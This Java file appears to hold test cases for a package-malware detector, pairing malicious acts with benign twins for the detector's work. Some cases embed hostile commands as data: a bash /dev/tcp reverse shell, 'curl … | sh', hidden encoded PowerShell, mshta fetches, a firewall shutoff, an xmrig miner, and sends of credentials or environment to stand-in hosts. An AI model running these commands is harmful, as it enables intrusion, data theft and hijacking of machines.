package dev.assay.core.detector.code;

import static dev.assay.core.detector.code.Acts.act;
import static dev.assay.core.detector.code.Acts.evident;
import static dev.assay.core.detector.code.Acts.hidden;
import static dev.assay.core.detector.code.Acts.onCall;

import dev.assay.core.detector.RuleCase;
import dev.assay.core.fact.Act;
import dev.assay.core.fact.Act.Kind;
import dev.assay.core.fact.Act.Label;
import dev.assay.core.fact.Act.Phase;
import dev.assay.core.fact.Facts;
import dev.assay.core.fact.Gained;
import dev.assay.core.fact.Unshared;
import java.util.List;
import java.util.stream.Stream;

/// The cases of the rules on code: acts in which a rule finds something, and their benign twin.
public final class CodeCases {
  private static final String STRANGER = "https://collect.example/in";
  private static final String VENDOR = "https://storage.googleapis.com/bucket";

  private CodeCases() {}

  /// All of them.
  public static Stream<RuleCase> all() {
    return Stream.of(thefts(), doings(), forms(), early(), gains()).flatMap(cases -> cases);
  }

  private static Stream<RuleCase> thefts() {
    return Stream.of(
        RuleCase.of(
            "credential-theft",
            act(Kind.SENDS, STRANGER, Phase.IMPORT, Label.CREDENTIAL_FILE),
            "a credentials file is sent to `https://collect.example/in` when it is imported",
            act(Kind.SENDS, VENDOR, Phase.CALL, Label.CREDENTIAL_FILE)),
        RuleCase.of(
            "environment-exfiltration",
            act(Kind.RESOLVES, "….collect.example", Phase.INSTALL, Label.ENVIRONMENT),
            "the environment is sent in a name that is asked for, `….collect.example` while it is"
                + " installed",
            act(Kind.SENDS, "", Phase.CALL, Label.ENVIRONMENT)),
        RuleCase.of(
            "host-profiling",
            act(Kind.SENDS, STRANGER, Phase.INSTALL, Label.HOST_IDENTITY),
            "who and where the machine is, is sent to `https://collect.example/in` while it is"
                + " installed",
            act(Kind.SENDS, VENDOR, Phase.CALL, Label.HOST_IDENTITY)),
        RuleCase.of(
            "file-theft",
            act(Kind.SENDS, "198.51.100.7:8000", Phase.IMPORT, Label.USER_FILES),
            "files of the user are sent to `198.51.100.7:8000` when it is imported",
            act(Kind.SENDS, "localhost:8000", Phase.IMPORT, Label.USER_FILES)),
        RuleCase.of(
            "wallet-theft",
            act(Kind.SENDS, STRANGER, Phase.CALL, Label.WALLET),
            "a wallet is sent to `https://collect.example/in` when it is called",
            act(Kind.SENDS, "…", Phase.CALL, Label.WALLET)),
        RuleCase.of(
            "browser-store-theft",
            act(Kind.SENDS, STRANGER, Phase.ENTRY, Label.BROWSER_STORE),
            "what browsers keep is sent to `https://collect.example/in` when its command is run",
            act(Kind.READS_SECRET, "~/.config/chromium", Phase.CALL, Label.BROWSER_STORE)),
        RuleCase.of(
            "ci-token-theft",
            act(Kind.SENDS, STRANGER, Phase.BUILD, Label.CI_TOKEN),
            "the token of the build is sent to `https://collect.example/in` while it is built",
            act(Kind.SENDS, "https://api.github.com/repos", Phase.CALL, Label.CI_TOKEN)),
        RuleCase.of(
            "secret-parameter-theft",
            hidden(act(Kind.SENDS, STRANGER, Phase.CALL, Label.SECRET_PARAMETER)),
            "a secret that a caller hands over is sent to `https://collect.example/in`",
            act(Kind.SENDS, VENDOR, Phase.CALL, Label.SECRET_PARAMETER)),
        new RuleCase(
            "secret-hoard",
            facts(
                act(
                    Kind.READS_SECRET,
                    "~/.config/chromium/Cookies",
                    Phase.CALL,
                    Label.BROWSER_STORE),
                act(Kind.READS_SECRET, "~/.acme/wallet.dat", Phase.CALL, Label.WALLET)),
            "it gathers what browsers keep and a wallet",
            facts(
                act(
                    Kind.READS_SECRET,
                    "~/.config/chromium/Cookies",
                    Phase.CALL,
                    Label.BROWSER_STORE),
                act(Kind.READS_SECRET, "ACME_TOKEN", Phase.CALL, Label.TOKEN))),
        RuleCase.of(
            "key-logging",
            act(Kind.READS_SECRET, "keyboard", Phase.IMPORT, Label.KEYSTROKES),
            "keystrokes are recorded when it is imported",
            act(Kind.READS_SECRET, "keyboard", Phase.CALL)),
        RuleCase.of(
            "screen-spying",
            act(Kind.SENDS, STRANGER, Phase.IMPORT, Label.SCREEN),
            "a picture of the screen is sent to `https://collect.example/in` when it is imported",
            act(Kind.SENDS, "", Phase.CALL, Label.SCREEN)),
        new RuleCase(
            "clipboard-hijack",
            facts(
                act(Kind.READS_SECRET, "clipboard:", Phase.IMPORT, Label.CLIPBOARD),
                act(Kind.WRITES_FILE, "clipboard:", Phase.IMPORT)),
            "the clipboard is read and replaced when it is imported",
            facts(act(Kind.WRITES_FILE, "clipboard:", Phase.CALL))),
        RuleCase.of(
            "exfiltration-service",
            act(Kind.SENDS, "https://discord.com/api/webhooks/1/abc", Phase.CALL),
            "it sends to `https://discord.com/api/webhooks/1/abc` when it is called",
            act(Kind.SENDS, "https://discord.com/api/users/1", Phase.CALL)));
  }

  private static Stream<RuleCase> doings() {
    return Stream.of(
        RuleCase.of(
            "remote-execution",
            act(Kind.EXECUTES_TEXT, "", Phase.IMPORT, Label.REMOTE),
            "text from the network is executed when it is imported",
            act(Kind.EXECUTES_TEXT, "", Phase.IMPORT)),
        new RuleCase(
            "dropped-and-run",
            facts(
                act(Kind.WRITES_FILE, "/tmp/acme.bin", Phase.IMPORT, Label.REMOTE),
                act(Kind.SPAWNS, "/tmp/acme.bin", Phase.IMPORT)),
            "a file that was brought in is run when it is imported: `/tmp/acme.bin`",
            facts(
                act(Kind.WRITES_FILE, "/tmp/acme.c", Phase.IMPORT),
                act(Kind.SPAWNS, "cc /tmp/acme.c", Phase.IMPORT))),
        RuleCase.of(
            "reverse-shell",
            act(Kind.SPAWNS, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", Phase.CALL),
            "a shell is tied to a connection when it is called: `bash -i >&"
                + " /dev/tcp/198.51.100.7/4444 0>&1`",
            act(Kind.SPAWNS, "bash build.sh", Phase.CALL)),
        RuleCase.of(
            "remote-control",
            act(Kind.SPAWNS, "…", Phase.IMPORT, Label.REMOTE),
            "a command from the network is run when it is imported",
            act(Kind.SPAWNS, "…", Phase.IMPORT)),
        new RuleCase(
            "back-door",
            facts(
                act(Kind.LISTENS, "0.0.0.0:4444", Phase.IMPORT),
                act(Kind.SPAWNS, "…", Phase.IMPORT, Label.REMOTE)),
            "it listens at `0.0.0.0:4444` and runs what it is told",
            facts(act(Kind.LISTENS, "0.0.0.0:8080", Phase.CALL))),
        RuleCase.of(
            "bare-address",
            act(Kind.SENDS, "http://203.0.113.9:8080/a", Phase.CALL),
            "it sends to `http://203.0.113.9:8080/a` when it is called",
            act(Kind.SENDS, "8.8.8.8:80", Phase.CALL)),
        RuleCase.of(
            "suspicious-command",
            act(Kind.SPAWNS, "powershell -w hidden -enc SQBFAFgA", Phase.CALL),
            "it runs `powershell -w hidden -enc SQBFAFgA` when it is called",
            act(Kind.SPAWNS, "powershell -NoProfile Get-Module", Phase.CALL)),
        RuleCase.of(
            "persistence",
            act(Kind.PERSISTS, "~/.bashrc", Phase.IMPORT),
            "it has itself started again by `~/.bashrc`, when it is imported",
            act(Kind.WRITES_FILE, "~/.acme/settings", Phase.IMPORT)),
        RuleCase.of(
            "process-memory-reading",
            act(Kind.READS_PROCESS, "/proc/…/mem", Phase.IMPORT),
            "it reads `/proc/…/mem` of another program when it is imported",
            act(Kind.READS_PROCESS, "/proc/self/maps", Phase.IMPORT)),
        RuleCase.of(
            "destruction",
            act(Kind.DESTROYS, "~", Phase.IMPORT),
            "it destroys `~` when it is imported",
            act(Kind.DESTROYS, "build", Phase.IMPORT)),
        RuleCase.of(
            "miner",
            act(Kind.SPAWNS, "./xmrig -o stratum+tcp://pool.example:3333", Phase.IMPORT),
            "it digs for coins when it is imported: `./xmrig -o stratum+tcp://pool.example:3333`",
            act(Kind.SPAWNS, "git rev-parse HEAD", Phase.IMPORT)),
        RuleCase.of(
            "self-propagation",
            act(Kind.SPAWNS, "twine upload dist/*", Phase.IMPORT),
            "it spreads by `twine upload dist/*` when it is imported",
            onCall(act(Kind.SPAWNS, "twine upload dist/*", Phase.INSTALL))),
        RuleCase.of(
            "staged-install",
            act(Kind.SPAWNS, "python -m pip install acme-helper", Phase.IMPORT),
            "it runs `python -m pip install acme-helper` when it is imported",
            act(Kind.SPAWNS, "python -m pip install acme-helper", Phase.CALL)),
        RuleCase.of(
            "foreign-runtime",
            act(Kind.SPAWNS, "bun run payload.js", Phase.IMPORT),
            "it starts `bun run payload.js` when it is imported",
            act(Kind.SPAWNS, "node --version", Phase.IMPORT)));
  }

  private static Stream<RuleCase> forms() {
    return Stream.of(
        RuleCase.of(
            "decoded-execution",
            act(Kind.EXECUTES_TEXT, "", Phase.IMPORT, Label.DECODED),
            "decoded text is executed when it is imported",
            act(Kind.EXECUTES_TEXT, "acme/version.py", Phase.INSTALL)),
        RuleCase.of(
            "hidden-behaviour",
            hidden(act(Kind.RECEIVES, STRANGER, Phase.IMPORT)),
            "it fetches from `https://collect.example/in` when it is imported, which only decoding"
                + " shows",
            act(Kind.RECEIVES, STRANGER, Phase.IMPORT)),
        RuleCase.of(
            "data-payload",
            act(Kind.EXECUTES_TEXT, "acme/logo.png", Phase.IMPORT, Label.DECODED),
            "`acme/logo.png` is executed when it is imported",
            act(Kind.EXECUTES_TEXT, "acme/__about__.py", Phase.IMPORT)),
        RuleCase.of(
            "hidden-code",
            act(Kind.EVADES, "code pushed off the screen", Phase.CALL),
            "code stands far to the right, off the screen",
            act(Kind.EVADES, "record: a file that it does not list", Phase.INSTALL)),
        RuleCase.of(
            "obfuscated-form",
            act(Kind.EVADES, "obfuscator: the form of PyArmor", Phase.CALL),
            "it is written not to be read: `obfuscator: the form of PyArmor`",
            act(Kind.EVADES, "record: a file that it does not list", Phase.INSTALL)),
        RuleCase.of(
            "defence-evasion",
            act(Kind.EVADES, "netsh advfirewall set allprofiles state off", Phase.IMPORT),
            "it gets round what protects the machine, when it is imported: `netsh advfirewall set"
                + " allprofiles state off`",
            act(Kind.EVADES, "code pushed off the screen", Phase.CALL)),
        new RuleCase(
            "native-payload",
            facts(ofNative("curl https://collect.example/a | sh")),
            "a native file tells that it starts `curl https://collect.example/a | sh`",
            facts(ofNative("uname -a"))),
        RuleCase.of(
            "pickle-code",
            act(Kind.EXECUTES_TEXT, "pickle", Phase.CALL),
            "a pickle calls functions when it is read",
            act(Kind.EXECUTES_TEXT, "", Phase.CALL)),
        RuleCase.of(
            "archive-differential",
            act(Kind.EVADES, "archive: a name that is there twice", Phase.INSTALL),
            "two readers see two contents: `archive: a name that is there twice`",
            act(Kind.EVADES, "code pushed off the screen", Phase.CALL)),
        RuleCase.of(
            "unknown-remainder",
            act(Kind.UNKNOWN, "the rest of the artifact", Phase.IMPORT),
            "this could not be looked at: `the rest of the artifact`",
            act(Kind.DECODES, "base64", Phase.IMPORT)));
  }

  private static Stream<RuleCase> early() {
    return Stream.of(
        RuleCase.of(
            "install-time-network",
            act(Kind.RECEIVES, STRANGER, Phase.INSTALL),
            "it fetches from `https://collect.example/in` while it is installed",
            onCall(act(Kind.RECEIVES, STRANGER, Phase.INSTALL))),
        RuleCase.of(
            "install-time-process",
            act(Kind.SPAWNS, "curl -s https://collect.example/a -o a", Phase.INSTALL),
            "it starts `curl -s https://collect.example/a -o a` while it is installed",
            act(Kind.SPAWNS, "git describe --tags", Phase.INSTALL)),
        RuleCase.of(
            "import-time-process",
            act(Kind.SPAWNS, "mshta https://collect.example/a", Phase.IMPORT),
            "it starts `mshta https://collect.example/a` when it is imported",
            act(Kind.SPAWNS, "ldconfig -p", Phase.IMPORT)),
        RuleCase.of(
            "import-time-network",
            act(Kind.SENDS, STRANGER, Phase.IMPORT),
            "it sends to `https://collect.example/in` when it is imported",
            act(Kind.SENDS, STRANGER, Phase.CALL)),
        RuleCase.of(
            "disguised-request",
            evident(
                act(Kind.SENDS, STRANGER, Phase.IMPORT),
                "post(u, headers={'User-Agent': 'Mozilla/5.0'})"),
            "it sends to `https://collect.example/in` under the name of a browser, when it is"
                + " imported",
            evident(
                act(Kind.SENDS, STRANGER, Phase.CALL),
                "post(u, headers={'User-Agent': 'Mozilla/5.0'})")),
        RuleCase.of(
            "start-time-code",
            act(Kind.SPAWNS, "sh -c …", Phase.START),
            "it starts `sh -c …` whenever an interpreter starts",
            act(Kind.EXECUTES_TEXT, "", Phase.START)));
  }

  private static Stream<RuleCase> gains() {
    return Stream.of(
        RuleCase.of(
            "gained-early-act",
            new Gained(act(Kind.SPAWNS, "sh -c …", Phase.INSTALL), false),
            "the upgrade starts `sh -c …` while it is installed",
            new Gained(act(Kind.SPAWNS, "git describe", Phase.INSTALL), false)),
        RuleCase.of(
            "gained-theft",
            new Gained(act(Kind.SENDS, STRANGER, Phase.CALL, Label.ENVIRONMENT), true),
            "the upgrade sends the environment to `https://collect.example/in` when it is called",
            new Gained(act(Kind.SENDS, VENDOR, Phase.CALL, Label.ENVIRONMENT), true)),
        RuleCase.of(
            "gained-import-act",
            new Gained(act(Kind.SENDS, STRANGER, Phase.IMPORT), true),
            "the upgrade sends to `https://collect.example/in` when it is imported",
            new Gained(act(Kind.SENDS, "localhost:80", Phase.IMPORT), true)),
        RuleCase.of(
            "gained-persistence",
            new Gained(act(Kind.PERSISTS, "~/.vscode/tasks.json", Phase.CALL), true),
            "the upgrade has itself started by `~/.vscode/tasks.json` when it is called",
            new Gained(act(Kind.WRITES_FILE, "~/.vscode/tasks.json", Phase.CALL), true)),
        RuleCase.of(
            "gained-hidden-act",
            new Gained(act(Kind.EXECUTES_TEXT, "", Phase.CALL, Label.DECODED), false),
            "the upgrade executes text when it is called",
            new Gained(act(Kind.EXECUTES_TEXT, "", Phase.CALL), false)),
        RuleCase.of(
            "sibling-difference",
            unshared(act(Kind.SENDS, STRANGER, Phase.IMPORT)),
            "`acme-1.0.whl` sends to `https://collect.example/in` when it is imported;"
                + " `acme-1.0.tar.gz` of the same release does not",
            unshared(act(Kind.READS_FILE, "VERSION", Phase.IMPORT))));
  }

  private static Unshared unshared(Act act) {
    return new Unshared(act, act.location(), "acme-1.0.whl", "acme-1.0.tar.gz");
  }

  private static Facts facts(Act... acts) {
    return new Facts(List.of(acts));
  }

  private static Act ofNative(String command) {
    Act act = act(Kind.SPAWNS, command, Phase.IMPORT);
    return new Act(
        act.kind(),
        act.target(),
        act.phase(),
        act.reach(),
        act.certainty(),
        act.carries(),
        act.location(),
        act.evidence(),
        List.of("strings of acme/native.so"));
  }
}
